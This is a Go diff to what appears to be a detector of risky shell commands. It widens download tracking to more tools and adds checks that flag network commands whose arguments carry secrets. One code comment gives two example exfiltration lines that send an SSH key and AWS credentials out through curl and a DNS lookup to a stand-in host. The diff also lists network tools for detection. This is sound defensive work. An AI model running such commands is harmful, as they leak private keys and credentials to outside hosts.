@@ -46,6 +46,11 @@ func (x *command) download() {
 		for _, v := range o.all("-o", "--output") {
 			x.downloadedTo(v.text)
 		}
+		if o.has("-O", "--remote-name", "--remote-name-all") {
+			for _, u := range o.operands {
+				x.downloadedTo(urlBase(u.text))
+			}
+		}
 	case "wget":
 		for _, v := range o.all("--post-file", "--body-file") {
 			leak = leak || leaksHome(v.text)
@@ -59,7 +64,19 @@ func (x *command) download() {
 		}
 		if len(outs) == 0 {
 			for _, u := range o.operands {
-				x.downloadedTo(path.Base(strings.SplitN(u.text, "?", 2)[0]))
+				x.downloadedTo(urlBase(u.text))
+			}
+		}
+	case "aria2c", "axel", "lwp-download", "fetch":
+		outs := parseOpts(x.args, "-o -d -O --out --dir --output").all("-o", "--out", "--output")
+		for _, v := range outs {
+			x.downloadedTo(v.text)
+		}
+		for i, u := range o.operands {
+			if x.name == "lwp-download" && i == 1 {
+				x.downloadedTo(u.text)
+			} else if len(outs) == 0 {
+				x.downloadedTo(urlBase(u.text))
 			}
 		}
 	case "http", "https", "xh":
@@ -82,6 +99,38 @@ func (x *command) download() {
 	}
 }
 
+// urlBase is the file name a downloader gives a URL's content.
+func urlBase(u string) string {
+	u, _, _ = strings.Cut(u, "?")
+	u, _, _ = strings.Cut(u, "#")
+	return path.Base(u)
+}
+
+// networkTool reports commands that reach other machines with their
+// arguments: a secret in an argument (curl https://x/$(cat ~/.ssh/id_rsa),
+// dig $(base64 < ~/.aws/credentials).evil.example) leaves the machine.
+func networkTool(name string) bool {
+	if isNetworkSender(name) || isDownloader(name) {
+		return true
+	}
+	switch name {
+	case "dig", "nslookup", "host", "drill", "ping", "ping6", "whois", "ftp", "tftp", "scp", "rsync", "sftp":
+		return true
+	}
+	return false
+}
+
+// leakyArgs flags a network command whose arguments carry the output of
+// commands that read secrets or home files.
+func (x *command) leakyArgs() {
+	for _, a := range x.args[1:] {
+		if a.subst && x.l.readsSecrets(a.word) {
+			x.flag(catExfil)
+			return
+		}
+	}
+}
+
 // downloadedTo remembers a file a download wrote, to recognize running it
 // later in the same script; writing a sensitive file is flagged at once.
 func (x *command) downloadedTo(p string) {
@@ -89,7 +138,7 @@ func (x *command) downloadedTo(p string) {
 		return
 	}
 	x.l.downloaded[canon(p)] = true
-	if cat := writeRisk(p); cat != "" {
+	if cat := x.l.writeRisk(p); cat != "" {
 		x.flag(cat)
 	}
 }
